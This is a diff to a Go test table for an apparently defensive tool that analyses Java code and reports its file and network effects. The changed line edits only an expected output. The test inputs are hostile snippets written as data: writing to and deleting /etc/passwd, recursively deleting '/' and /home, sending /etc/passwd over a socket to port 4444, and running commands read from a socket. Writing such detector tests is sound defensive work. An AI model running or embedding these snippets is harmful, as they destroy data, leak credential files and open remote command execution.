@@ -42,7 +42,7 @@ var effectCases = []flowtest.Case{
 	{Name: "writer", Code: "try (FileWriter w = new FileWriter(\"/etc/passwd\", true)) { w.write(\"x\"); }", Want: []string{"write /etc/passwd | x"}},
 	{Name: "delete", Code: "Files.delete(Paths.get(\"/etc/passwd\"));", Want: []string{"delete /etc/passwd"}},
 	{Name: "tree", Code: "FileUtils.deleteDirectory(new File(\"/\"));", Want: []string{"delete / +recursive"}},
-	{Name: "walk", Code: "Files.walk(Paths.get(\"/home\")).sorted().forEach(p -> p.toFile().delete());", Want: []string{"delete /home/_ +loop"}},
+	{Name: "walk", Code: "Files.walk(Paths.get(\"/home\")).sorted().forEach(p -> p.toFile().delete());", Want: []string{"delete /home/* +loop"}},
 	{Name: "socket", Code: "Socket s = new Socket(\"h\", 4444);\ns.getOutputStream().write(Files.readAllBytes(Path.of(\"/etc/passwd\")));",
 		Want: []string{"connect h :4444", "send h :4444 | _ <file: /etc/passwd>"}},
 	{Name: "commands from a socket", Code: "Socket s = new Socket(\"h\", 1);\nBufferedReader r = new BufferedReader(new InputStreamReader(s.getInputStream()));\nRuntime.getRuntime().exec(r.readLine());",
